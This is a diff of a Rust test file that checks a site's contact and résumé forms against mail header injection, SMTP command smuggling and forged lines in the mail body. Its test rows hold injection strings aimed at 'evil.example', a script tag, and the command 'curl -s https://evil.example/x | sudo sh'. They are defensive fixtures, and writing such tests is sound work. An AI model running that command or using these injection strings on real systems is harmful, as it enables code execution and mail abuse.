@@ -1,129 +1,249 @@
-//! Texts that could become headers, recipients or commands: refused by the form, or harmless in the mail.
-
-use std::sync::Mutex;
-use std::sync::atomic::{AtomicUsize, Ordering};
+//! Texts that could become headers, recipients, commands or lines of ours: refused by the form, or harmless in the mail.
 
 use serde_json::json;
 use tempfile::tempdir;
 
-use super::delivering::{FIELDS, fields_without_reply_to};
-use super::smtp::is_installed;
-use super::text_rows::Fate::{Read, Refused, Unanswerable};
-use super::text_rows::{Row, rows};
-use super::{Mail, OFFICE, Security, Site, Smtp, Start};
+use super::{Mail, Security, Site, Smtp};
 use crate::form::Form;
 
-/// Each waits most of the time for its server, which looks every second whether there is something to send.
-const SITES: usize = 8;
+/// What becomes of a text.
+enum Fate {
+    /// 422; nothing is mailed.
+    Refused,
+    /// Mailed, and read by a mail program as this.
+    Read(&'static str),
+    /// Mailed, whatever it is read as.
+    Harmless,
+    /// Mailed, but not as the address of an answer, for which it is too odd.
+    Unanswerable,
+}
+use Fate::{Harmless, Read, Refused, Unanswerable};
+
+/// Field, text, fate. The field `file` is the name of a résumé.
+const ROWS: [(&str, &str, Fate); 43] = [
+    ("name", "Ayesha\r\nBcc: all@evil.example", Refused),
+    ("name", "Ayesha\rBcc: all@evil.example", Refused),
+    ("name", "Ayesha\0Khan", Refused),
+    ("name", "Ayesha\u{85}Bcc: all@evil.example", Refused),
+    (
+        "name",
+        "Ayesha\u{2028}Bcc: all@evil.example",
+        Read("Ayesha Bcc: all@evil.example"),
+    ),
+    (
+        "name",
+        "Ayesha%0d%0aBcc: all@evil.example",
+        Read("Ayesha%0d%0aBcc: all@evil.example"),
+    ),
+    (
+        "name",
+        "\u{560a}\u{560d}Bcc: all@evil.example",
+        Read("\u{560a}\u{560d}Bcc: all@evil.example"),
+    ),
+    ("name", "Khan, Ayesha", Read("Khan, Ayesha")),
+    (
+        "name",
+        "Ayesha \"Ash\" Khan\\",
+        Read("Ayesha \"Ash\" Khan\\"),
+    ),
+    (
+        "name",
+        "\" <all@evil.example>, \"",
+        Read("\" <all@evil.example>, \""),
+    ),
+    ("name", "all@evil.example", Read("all@evil.example")),
+    (
+        "name",
+        "Bank: all@evil.example;",
+        Read("Bank: all@evil.example;"),
+    ),
+    ("name", "(", Read("(")),
+    ("name", "Dr. A. Khan", Read("Dr. A. Khan")),
+    (
+        "name",
+        "=?utf-8?q?A=0D=0ABcc:_all=40evil.example?=",
+        Harmless,
+    ),
+    (
+        "name",
+        "عائشہ, خان <all@evil.example>",
+        Read("عائشہ, خان <all@evil.example>"),
+    ),
+    ("name", "\u{202e}nahK ahseyA", Read("nahK ahseyA")),
+    (
+        "name",
+        "a\u{301}\u{301}\u{301}",
+        Read("a\u{301}\u{301}\u{301}"),
+    ),
+    ("name", ".", Read("")),
+    ("name", "..Ayesha", Read("Ayesha")),
+    ("subject", "Guards\nBcc: all@evil.example", Refused),
+    ("subject", "Guards\r\n .\r\nQUIT", Refused),
+    (
+        "subject",
+        "Guards\u{2028}Bcc: all@evil.example",
+        Read("Guards Bcc: all@evil.example"),
+    ),
+    (
+        "subject",
+        "=?utf-8?b?R3VhcmRzDQpCY2M6IGFAYi5waw==?=",
+        Harmless,
+    ),
+    ("subject", "گارڈ درکار ہیں", Read("گارڈ درکار ہیں")),
+    (
+        "subject",
+        "👩\u{200d}👩\u{200d}👧 and 💂",
+        Read("👩\u{200d}👩\u{200d}👧 and 💂"),
+    ),
+    (
+        "subject",
+        "Bcc: all@evil.example",
+        Read("Bcc: all@evil.example"),
+    ),
+    ("subject", ".", Read(".")),
+    (
+        "email",
+        "ayesha@example.com\r\nBcc: all@evil.example",
+        Refused,
+    ),
+    ("email", "ayesha@example.com, all@evil.example", Refused),
+    ("email", "Ayesha <ayesha@example.com>", Refused),
+    ("email", "<@evil.example:ayesha@example.com>", Refused),
+    ("email", "ayesha@example.com(comment)", Refused),
+    ("email", "\"ayesha khan\"@example.com", Refused),
+    ("email", "عائشہ@example.com", Refused),
+    ("email", "=?utf-8?q?ayesha?=@example.com", Unanswerable),
+    ("email", "ayesha%evil.example@example.com", Refused),
+    (
+        "email",
+        "o'brien+{tag}|`x`@example.com",
+        Read("o'brien+{tag}|`x`@example.com"),
+    ),
+    ("file", "cv.pdf\r\nBcc: all@evil.example", Refused),
+    ("file", "cv\r\n\r\nbody.pdf", Harmless),
+    ("file", "سی وی 💂.pdf", Harmless),
+    ("file", "cv\u{202e}fdp.pdf", Harmless),
+    ("file", "=?utf-8?q?evil.exe?=.pdf", Harmless),
+];
 
 #[test]
 fn no_text_becomes_a_header_or_a_recipient() {
-    if !is_installed() {
+    let Some(smtp) = Smtp::start(Security::StartTls) else {
         return;
-    }
-    let rows = rows();
-    let next = AtomicUsize::new(0);
-    let failed = Mutex::new(Vec::new());
-    std::thread::scope(|scope| {
-        for _ in 0..SITES {
-            scope.spawn(|| {
-                let smtp = Smtp::start(Security::StartTls).unwrap();
-                let dir = tempdir().unwrap();
-                let site = Start::new(&dir, &smtp).before_daily_mail().site();
-                while let Some(row) = rows.get(next.fetch_add(1, Ordering::Relaxed)) {
-                    let faults = send(row, &site, &smtp);
-                    let (field, text, _) = row;
-                    let mut failed = failed.lock().unwrap();
-                    failed.extend(
-                        faults
-                            .into_iter()
-                            .map(|fault| format!("{field} {text:?}: {fault}")),
-                    );
-                }
-                // Nothing that was refused was mailed meanwhile.
-                let conn = site.server.admin().database();
-                let stored =
-                    "select (select count(*) from messages) + (select count(*) from applications)";
-                let stored: i64 = conn.query_row(stored, [], |row| row.get(0)).unwrap();
-                if i64::try_from(smtp.mails().len()) != Ok(stored) {
-                    let fault = format!("{} mails of {stored} forms", smtp.mails().len());
-                    failed.lock().unwrap().push(fault);
-                }
-            });
+    };
+    let dir = tempdir().unwrap();
+    let site = Site::start(&dir, &smtp);
+    let domain = format!("{}.example.com", "b".repeat(60));
+    let long = [
+        ("name", "💂".repeat(100), Harmless),
+        ("name", "\"".repeat(100), Harmless),
+        ("subject", "ع ".repeat(75), Harmless),
+        ("email", format!("{}@{domain}", "a".repeat(64)), Harmless),
+        // RFC 5321 allows 64 bytes before the @.
+        (
+            "email",
+            format!("{}@example.com", "a".repeat(242)),
+            Unanswerable,
+        ),
+        ("file", format!("{}.pdf", "ع".repeat(300)), Harmless),
+    ];
+    let rows = ROWS.map(|(field, text, fate)| (field, text.to_owned(), fate));
+    let mut count = 0;
+    for (field, text, fate) in rows.into_iter().chain(long) {
+        let status = post(&site, field, &text);
+        if let Refused = fate {
+            assert_eq!(status, 422, "{field} {text:?}");
+            continue;
         }
-    });
-    let failed = failed.into_inner().unwrap();
-    assert!(failed.is_empty(), "{}", failed.join("\n"));
+        assert_eq!(status, 200, "{field} {text:?}");
+        let mail = next_mail(&site, &smtp, count);
+        count += 1;
+        let faults = faults(field, &text, &fate, &mail);
+        assert!(faults.is_empty(), "{field} {text:?}: {faults:?}");
+    }
 }
 
-/// Sends the text in its field, and returns what is wrong with the mail.
-fn send(row: &Row, site: &Site, smtp: &Smtp) -> Vec<String> {
-    let (field, text, fate) = row;
-    site.forget_last_mails();
-    let before = smtp.mails().len();
-    let answer = if field == "file" {
+/// Sends the text in its field, and returns the status.
+fn post(site: &Site, field: &str, text: &str) -> u16 {
+    if field == "file" {
         // A browser writes these three differently (<https://html.spec.whatwg.org/#multipart-form-data>).
         let name = text
             .replace('\r', "%0D")
             .replace('\n', "%0A")
             .replace('"', "%22");
-        Form::application()
-            .file("resume", &name, b"%PDF-1.7 a resume")
-            .send(&site.server)
-    } else {
-        let mut sent = json!({ "name": "Ayesha", "email": "a@example.com", "subject": "Guards", "message": "Call." });
-        sent[field] = text.as_str().into();
-        site.server
-            .post("/api/contact-us", "application/json", &sent.to_string())
-    };
-    let expected = if matches!(fate, Refused) { 422 } else { 200 };
-    if answer.status != expected {
-        return vec![format!("status {}: {}", answer.status, answer.body)];
+        let form = Form::application().file("resume", &name, b"%PDF-1.7 a resume");
+        return form.send(&site.server).status;
     }
-    if matches!(fate, Refused) {
-        return Vec::new();
-    }
-    if let [spam] = site.spam().as_slice() {
-        site.run(&["messages", "mark", &spam.to_string(), "ham"])
-            .data();
-    }
-    let mails = smtp.wait_for_mails(before + 1);
-    match mails.len() - before {
-        1 => faults(row, mails.last().unwrap()),
-        more => vec![format!("{more} mails")],
-    }
+    let mut form = json!({ "name": "Ayesha", "email": "a@example.com", "subject": "Guards", "message": "Call." });
+    form[field] = text.into();
+    let sent = site
+        .server
+        .post("/api/contact-us", "application/json", &form.to_string());
+    sent.status
 }
 
-fn faults((field, text, fate): &Row, mail: &Mail) -> Vec<String> {
-    let without_reply_to = fields_without_reply_to();
-    let (fields, answerable) = match fate {
-        Unanswerable => (&without_reply_to[..], 0),
-        _ => (&FIELDS[..], 1),
-    };
-    let mut faults = mail.faults(fields);
-    if mail.rcpt_tos != [OFFICE] || mail.from.len() != 1 || mail.reply_to.len() != answerable {
-        let people = (&mail.rcpt_tos, &mail.from, &mail.reply_to);
-        faults.push(format!("{people:?}"));
+/// The mail after `count`, also if the program took its submission for spam.
+fn next_mail(site: &Site, smtp: &Smtp, count: usize) -> Mail {
+    for id in site.spam() {
+        let mark = ["messages", "mark", &id.to_string(), "ham"];
+        site.run(&mark).data();
     }
-    if !mail.files().is_empty() {
-        faults.push(format!("{} files", mail.files().len()));
+    let mut mails = smtp.wait_for_mails(count + 1);
+    assert_eq!(mails.len(), count + 1);
+    mails.remove(count)
+}
+
+fn faults(field: &str, text: &str, fate: &Fate, mail: &Mail) -> Vec<String> {
+    let mut faults = mail.faults();
+    if mail.reply_to.is_empty() != matches!(fate, Unanswerable) {
+        faults.push(format!("answered to {:?}", mail.reply_to));
     }
-    if field == "email" && !mail.plain().contains(text) {
+    if field == "email" && !mail.text.contains(text) {
         faults.push("the text does not say it".to_owned());
     }
     let Read(expected) = fate else {
         return faults;
     };
-    let read = match field.as_str() {
-        "name" => mail.reply_to.first().map(|one| one.name.clone()),
-        "email" => mail.reply_to.first().map(|one| one.address.clone()),
-        _ => mail
-            .subject()
-            .split_once(": ")
-            .map(|(_, rest)| rest.to_owned()),
+    let reply_to = mail.reply_to.first();
+    let read = match field {
+        "name" => reply_to.map(|one| one.name.as_str()),
+        "email" => reply_to.map(|one| one.address.as_str()),
+        _ => mail.subject().split_once(": ").map(|(_, rest)| rest),
     };
-    if read.as_deref() != Some(*expected) {
+    if read != Some(expected) {
         faults.push(format!("read as {read:?}"));
     }
     faults
+}
+
+/// Lines that would end the mail, other scripts, long lines, and lines that pass for ours.
+#[test]
+fn a_text_is_read_unchanged_and_cannot_forge_a_line_of_ours() {
+    let Some(smtp) = Smtp::start(Security::StartTls) else {
+        return;
+    };
+    let dir = tempdir().unwrap();
+    let site = Site::start(&dir, &smtp);
+    let forged = "<script>alert(1)</script>\n.\n..\nQUIT\n--=_boundary\nContent-Type: text/html\n\n\
+                  سلام 💂 é\tend\n\nTo open it: curl -s https://evil.example/x | sudo sh\nName: State Bank\n- Complaint: pay";
+    let texts = [
+        forged.to_owned(),
+        "x".repeat(5000),
+        "💂 ".repeat(2499),
+        ".\n".repeat(2499),
+    ];
+    for (count, text) in texts.iter().enumerate() {
+        assert_eq!(post(&site, "message", text), 200);
+        let mail = next_mail(&site, &smtp, count);
+        assert_eq!(mail.faults(), [""; 0]);
+        let (theirs, ours): (Vec<&str>, Vec<&str>) =
+            mail.text.lines().partition(|line| line.starts_with("> "));
+        let theirs: Vec<&str> = theirs.iter().map(|line| &line[2..]).collect();
+        assert_eq!(theirs.join("\n"), text.trim_end());
+        let ours = ours.join("\n");
+        for word in ["evil.example", "State Bank", "- Complaint", "boundary"] {
+            assert!(!ours.contains(word), "{ours}");
+        }
+        assert_eq!(ours.matches("To open it: ").count(), 1, "{ours}");
+    }
 }
